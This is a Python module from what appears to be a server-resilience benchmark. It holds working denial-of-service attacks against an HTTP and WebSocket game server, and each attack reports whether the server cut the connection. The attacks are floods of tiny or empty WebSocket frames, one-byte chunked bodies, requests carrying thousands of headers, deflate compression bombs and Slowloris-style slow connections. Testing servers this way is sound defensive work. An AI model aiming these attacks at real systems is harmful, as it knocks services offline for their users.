"""Attackers who send too much, or never finish: each a function that says what became of it."""

from __future__ import annotations

import socket
import time
import zlib
from collections import Counter
from contextlib import suppress
from typing import Any

from websockets.exceptions import WebSocketException
from websockets.sync.client import connect

from bench.attacks.target import Fate, Target, page_at, seat

PATIENCE = 30.0
"""Seconds for which an attacker waits to be thrown out."""
_MASK = b"\x80\0\0\0\0"
"""No content, and a mask of zeros, which is as good as any."""
PING, PONG, BEGUN, MORE = (bytes([first]) + _MASK for first in (0x89, 0x8A, 0x01, 0x00))
"""Empty frames: two that are no messages, the beginning of a message, and one of its parts that is not the last."""


def _frame(payload: bytes, *, packed: bool = False) -> bytes:
    """A masked text frame; the mask is zero, which is as good as any."""
    first = 0xC1 if packed else 0x81
    if len(payload) < 126:
        head = bytes([first, 0x80 | len(payload)])
    else:
        head = bytes([first, 0x80 | 126]) + len(payload).to_bytes(2, "big")
    return head + b"\0\0\0\0" + payload


def _cut(line: Any) -> bool:
    """Is the line cut before patience runs out?"""
    with suppress(TimeoutError):
        try:
            while True:
                line.recv(timeout=PATIENCE)
        except (WebSocketException, OSError):
            return True
    return False


def tiny_frames(target: Target, size: int = 250_000) -> Fate:
    """A line full of messages of one letter, sent at once."""
    page = page_at(target)
    one = _frame(b"x")
    with suppress(OSError):
        page.socket.socket.sendall(one * (size // len(one)))
    return Fate(int(_cut(page.socket)), 1)


def empty_frames(target: Target, frames: tuple[bytes, ...] = (PING,), size: int = 3_000_000, sockets: int = 1) -> Fate:
    """Frames with nothing in them, the last of the kinds without end."""
    *before, again = frames
    pages = [page_at(target) for _ in range(sockets)]
    for page in pages:
        with suppress(OSError):
            page.socket.socket.sendall(b"".join(before) + again * (size // len(again)))
    return Fate(sum(_cut(page.socket) for page in pages), sockets)


def tiny_chunks(target: Target, lines: int = 20, size: int = 1_000_000, *, ahead: bool = False) -> Fate:
    """Bodies of requests in chunks of one byte, `ahead` of the answer to another one."""
    first = f"GET /api/live HTTP/1.1\r\nHost: {target.host}\r\n\r\n" * ahead
    head = f"POST /api/me HTTP/1.1\r\nHost: {target.host}\r\nTransfer-Encoding: chunked\r\n\r\n"
    chunks = b"1\r\na\r\n" * (size // 6)
    return Fate.of(_answers(target, (first + head).encode() + chunks, lines), fine=() if ahead else ("200",))


def many_headers(target: Target, headers: int = 15_000, lines: int = 1, *, ahead: bool = False) -> Fate:
    """Requests with many headers, `ahead` of the answer to one that has few."""
    first = f"GET /api/games HTTP/1.1\r\nHost: {target.host}\r\n"
    full = first + "Connection: close\r\n" + headers * "a:\r\n" + "\r\n"
    return Fate.of(_answers(target, (f"{first}\r\n" * ahead + full).encode(), lines), fine=("200",))


def _answers(target: Target, request: bytes, lines: int) -> Counter[str]:
    """The status of the first answer on every line, or "cut"."""
    host, port = target.host.split(":")
    opened = [socket.create_connection((host, int(port)), timeout=PATIENCE) for _ in range(lines)]
    codes: Counter[str] = Counter()
    for line in opened:
        with suppress(OSError):  # it may be cut before all of it is sent
            line.sendall(request)
    for line in opened:
        with line, suppress(OSError):
            answer = line.recv(64)
            codes[answer.split()[1].decode() if answer else "cut"] += 1
    codes["cut"] += lines - codes.total()
    return +codes


def bombs(target: Target, sockets: int = 20, size: int = 230_000) -> Fate:
    """Messages that are small on the wire and large in memory."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -12)
    packed = packer.compress(b" " * 250_000) + packer.flush(zlib.Z_SYNC_FLUSH)
    bomb = _frame(packed[:-4], packed=True)
    person, table = seat(target)
    lines: list[Any] = []
    for _ in range(sockets):
        headers = {"Cookie": "; ".join(f"{name}={value}" for name, value in person.http.cookies.items())}
        address = f"ws://{target.host}/api/tables/{table}/play"
        with suppress(OSError, WebSocketException):
            line: Any = connect(address, additional_headers=headers, max_queue=None)
            lines.append(line.__enter__())
    for line in lines:
        with suppress(OSError):
            line.socket.sendall(bomb * (size // len(bomb)))
    return Fate(sockets - len(lines) + sum(_cut(line) for line in lines), sockets)


def slow_requests(target: Target, connections: int = 180, seconds: float = PATIENCE) -> Fate:
    """Connections that never finish their headers, or their body."""
    beginnings = [
        b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ",
        b"POST /api/tables HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9999\r\n\r\n{",
    ]
    host, port = target.host.split(":")
    lines: list[socket.socket] = []
    for number in range(connections):
        line = socket.create_connection((host, int(port)), timeout=5)
        with suppress(OSError):
            line.sendall(beginnings[number % 2])
        lines.append(line)
    open_ = set(lines)
    end = time.monotonic() + seconds
    while open_ and time.monotonic() < end:
        for line in list(open_):
            if not _alive(line):
                open_.remove(line)
        time.sleep(0.2)
    return Fate(connections - len(open_), connections)


def _alive(line: socket.socket) -> bool:
    line.settimeout(0.001)
    try:
        line.sendall(b" ")
        return bool(line.recv(4096))
    except TimeoutError:
        return True
    except OSError:
        return False
